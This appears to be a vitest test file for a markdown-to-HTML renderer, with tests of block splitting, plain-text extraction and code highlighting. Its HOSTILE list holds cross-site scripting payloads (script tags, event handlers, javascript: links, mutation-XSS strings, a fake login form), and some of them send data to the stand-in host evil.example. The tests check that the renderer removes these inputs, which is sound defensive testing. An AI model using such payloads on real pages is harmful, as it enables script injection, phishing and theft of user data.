import { describe, expect, it } from "vitest";
import { bareText } from "../src/text/bare";
import { BlockSplitter, blocksOf } from "../src/text/blocks";
import { highlight } from "../src/text/highlight";
import { renderHtml } from "../src/text/markdown";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/?q=secret">',
  "![x](https://evil.example/steal.png)",
  "![x](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.example)",
  "<a href='javascript:alert(1)'>x</a>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<form action='https://evil.example'><input name=a><button>Sign in</button></form>",
  "<button data-cite='1' class='cite'>1</button>",
  "<p style='position:fixed;inset:0' class='overlay' id='app'>x</p>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<div\nonclick=alert(1)>x</div>",
  "<base href='https://evil.example/'>",
  "<link rel=stylesheet href='https://evil.example/a.css'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "\uE0001\uE001 forged",
];

it("sets a remark apart, and not a sentence with one stressed word", () => {
  expect(dom(renderHtml("*No model is connected: set `KEY`.*")).querySelector("p")?.className).toBe("aside");
  expect(dom(renderHtml("Say *this*.")).querySelector("p")?.className).toBe("");
});

it("shows what only looks like a tag, and drops what is one", () => {
  const html = renderHtml("Run `ros2 run <a> <b>` or ros2 run <package> <my-node>.\n\n<div>\nin <name> out < in\n</div>");
  const text = dom(html).textContent;
  expect(text).toContain("ros2 run <package> <my-node>.");
  expect(text).toContain("in <name> out < in");
  expect(renderHtml('<div>\n<base href="https://evil.example/"\n\nnext')).not.toContain("<base");
});

function dom(html: string): HTMLElement {
  const holder = document.createElement("div");
  holder.innerHTML = html;
  return holder;
}

describe("renderMarkdown on hostile text", () => {
  it.each(HOSTILE)("keeps the page safe from %j", (source) => {
    const root = dom(renderHtml(source, { cited: new Map() }));
    expect(
      root.querySelector("script, img, svg, math, iframe, form, style, link, base, meta, object, [data-cite]"),
    ).toBeNull();
    for (const element of root.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^id$|^src$/);
        expect(value).not.toMatch(/^\s*(javascript|data|vbscript):/i);
      }
    }
    for (const link of root.querySelectorAll("a")) {
      expect(link.getAttribute("href")).toMatch(/^https?:\/\//);
      expect(link.rel).toContain("noopener");
    }
  });
});

describe("renderMarkdown", () => {
  const cited = new Map([
    [1, "Nodes"],
    [2, "Topics"],
  ]);

  it("turns known marks into chips and leaves the others, and code, alone", () => {
    const root = dom(renderHtml("One [1]. Two [1, 2][2]. No [7]. `a[1]` and [1](https://a.example)", { cited }));
    expect([...root.querySelectorAll<HTMLElement>("[data-cite]")].map((chip) => chip.dataset.cite)).toEqual([
      "1",
      "1",
      "2",
      "2",
    ]);
    expect(root.textContent).toContain("[7]");
    expect(root.querySelector("code")?.textContent).toBe("a[1]");
    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://a.example");
  });

  it("asks where a relative link leads", () => {
    const resolve = (href: string) => (href === "b.md" ? "#/c/crs_1/lessons/lsn_2" : null);
    const root = dom(renderHtml("[b](b.md) [c](c.md) [m](mailto:a@b.c)", { resolve }));
    expect([...root.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual([
      "#/c/crs_1/lessons/lsn_2",
    ]);
    expect(root.textContent).toBe("b c m\n");
  });

  it("lets a table scroll inside itself and gives nested code a copy button", () => {
    const root = dom(renderHtml("| a |\n|---|\n| b |\n\n- x\n  ```sh\n  ls\n  ```\n"));
    expect(root.querySelector(".table-wrap > table")).not.toBeNull();
    expect(root.querySelector("li figure [data-copy]")).not.toBeNull();
  });

  it("leaves currency as it is", () => {
    expect(dom(renderHtml("From $5 to $10")).textContent).toBe("From $5 to $10\n");
  });
});

describe("BlockSplitter", () => {
  const TEXT =
    "# Title\n\nA paragraph\nof two lines.\n\n- a\n\n- b\n  - c\n\n```py\nx = 1\n\ny = 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\nEnd.";

  it("finds the same blocks whether the text grows or comes whole", () => {
    const splitter = new BlockSplitter();
    let grown = splitter.split("");
    for (let end = 1; end <= TEXT.length; end++) grown = splitter.split(TEXT.slice(0, end));
    expect(grown.map((block) => block.raw.trim())).toEqual(blocksOf(TEXT).map((block) => block.raw.trim()));
    expect(grown).toHaveLength(7);
  });

  it("starts over when the text is replaced", () => {
    const splitter = new BlockSplitter();
    splitter.split("One.\n\nTwo.\n\nThree.");
    expect(splitter.split("Other.").map((block) => block.raw)).toEqual(["Other."]);
  });

  it("knows a fence that is still open", () => {
    expect(blocksOf("```py\nx = 1")[0]?.code).toEqual({ lang: "py", text: "x = 1", closed: false });
    expect(blocksOf("```py\nx = 1\n```")[0]?.code?.closed).toBe(true);
  });
});

describe("bareText", () => {
  it("is one plain line", () => {
    expect(bareText("## A **topic**\n\n- is [a stream](https://a.example) [1, 2] of `bytes`")).toBe(
      "A topic is a stream of bytes",
    );
  });
});

describe("highlight", () => {
  const SAMPLE = 'def f(x):  # half "quoted"\n    return "a # b" if x > 10 else None\n';

  it("finds the parts of a known language and loses no letter", () => {
    const pieces = highlight(SAMPLE, "python");
    expect(pieces.map((piece) => piece.text).join("")).toBe(SAMPLE);
    expect(pieces.filter((piece) => piece.kind).map((piece) => [piece.kind, piece.text])).toEqual([
      ["keyword", "def"],
      ["comment", '# half "quoted"'],
      ["keyword", "return"],
      ["string", '"a # b"'],
      ["keyword", "if"],
      ["number", "10"],
      ["keyword", "else"],
      ["keyword", "None"],
    ]);
  });

  it("leaves an unknown language plain", () => {
    expect(highlight("x = 1", "brainfudge")).toEqual([{ kind: null, text: "x = 1" }]);
  });
});
